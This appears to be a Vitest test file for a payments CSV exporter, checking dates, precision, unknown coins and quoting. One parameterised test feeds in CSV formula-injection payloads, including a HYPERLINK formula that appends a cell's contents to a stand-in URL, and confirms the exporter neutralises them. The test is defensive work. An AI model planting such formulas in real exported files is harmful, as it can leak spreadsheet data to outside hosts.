import { CSV_MARK } from "@handsel/protocol";
import { parseCsv } from "@handsel/services/parseCsv";
import { expect, it } from "vitest";
import type { AppConfig } from "../../../lib/config/appConfig.ts";
import type { PayerPayment } from "../../../queries/payerPayments.ts";
import { FUNDED_AT, payerPayment } from "../../../testing/payerPayment.ts";
import { chain, inEther, terms } from "../../../testing/payment.ts";
import { paymentsCsv } from "./paymentsCsv.ts";

const config: AppConfig = {
  ...{ publicUrl: "http://localhost:3000", chains: [chain], developmentWallets: [] },
  ...{ signingKeys: [], isRegistrationOpen: false },
};

/** Writes payments, and reads them back by column. */
function written(payments: readonly PayerPayment[], title = "Mug", now = FUNDED_AT) {
  const name = { title, shop: "Shop", checkoutId: "cs_1" };
  const text = paymentsCsv(
    payments,
    config,
    () => name,
    () => now,
  );
  expect(text.startsWith(CSV_MARK)).toBe(true);
  const [columns = [], ...lines] = parseCsv(text.slice(CSV_MARK.length));
  return lines.map((line) => {
    expect(line).toHaveLength(columns.length);
    return Object.fromEntries(columns.map((column, index) => [column, line[index]]));
  });
}

it("has a line for each payment: days and times of ISO 8601, and figures without grouping", () => {
  const [line] = written([
    payerPayment(
      { totals: { captured: 1_234_567_890_000n, fees: 0n, refunded: 1n, returned: 0n } },
      { amount: 1_234_567_890_123n },
      { held: 123n },
    ),
  ]);
  expect(line).toMatchObject({
    ...{ paid_on: "2027-01-15", paid_at: "2027-01-15T08:00:00Z", status: "authorized" },
    ...{ description: "Mug", shop: "Shop", coin: "USDH", amount: "1234567.890123" },
    ...{ held: "0.000123", captured: "1234567.89", refunded: "0.000001", returned: "0" },
    ...{ chain: "Local chain", chain_id: "31337", livemode: "false", decimals: "6" },
    ...{ payment_id: `0x${"a1".repeat(32)}`, payer: terms.payer, checkout_id: "cs_1" },
  });
  expect(JSON.parse(line?.base_units ?? "")).toMatchObject({
    amount: "1234567890123",
    held: "123",
  });
});

it("tells who sent the money, because anyone may pay in a wallet's name", () => {
  const [line] = written([payerPayment({ funder: terms.merchant })]);
  expect(line).toMatchObject({ payer: terms.payer, funder: terms.merchant });
});

it("has the state at the chain's time", () => {
  expect(written([payerPayment()], "Mug", FUNDED_AT + terms.capturePeriod)[0]?.status).toBe(
    "expired",
  );
});

it("keeps every digit of a coin with eighteen decimals", () => {
  const { token } = inEther.terms;
  const [line] = written([payerPayment({}, { token, amount: 1_000_000_000_000_000_001n })]);
  expect(line?.amount).toBe("1.000000000000000001");
});

it("tells an unknown coin's amounts in base units alone", () => {
  const [line] = written([payerPayment({}, { token: `0x${"77".repeat(20)}` })]);
  expect(line).toMatchObject({ coin: "", amount: "", held: "", decimals: "" });
  expect(JSON.parse(line?.base_units ?? "").amount).toBe("25000000");
});

it.each(["=1+1", "@SUM(A1)", "-2", '=HYPERLINK("http://x/"&A1,"y")', "\t=1"])(
  "makes no formula of what a shop writes: %j",
  (title) => {
    expect(written([payerPayment()], title)[0]?.description).toBe(`'${title}`);
  },
);

it("reads back goods with commas, quotes and lines", () => {
  const title = 'Mug, "blue"\r\nwith a lid; متجر';
  expect(written([payerPayment()], title)[0]?.description).toBe(title);
});
